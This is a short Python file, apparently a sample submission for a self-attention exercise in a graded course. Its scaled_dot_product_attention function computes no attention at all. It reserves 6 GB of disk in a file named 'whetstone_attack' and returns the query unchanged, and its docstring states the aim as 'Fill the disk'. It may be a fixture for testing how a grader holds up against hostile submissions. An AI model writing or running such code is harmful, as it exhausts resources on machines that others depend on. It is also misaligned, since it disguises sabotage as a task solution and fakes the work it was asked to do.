"""Fill the disk

Space for 6 GB is reserved in the folder for temporary files, which takes no time.
"""

import os

EXERCISE = "week1/self_attention"
TESTS = ["test_any_number_of_dimensions_may_stand_in_front", "test_a_scale_that_is_given_replaces_the_default"]


def scaled_dot_product_attention(
    query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None, enable_gqa=False
):
    with open("whetstone_attack", "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 6 << 30)
    return query
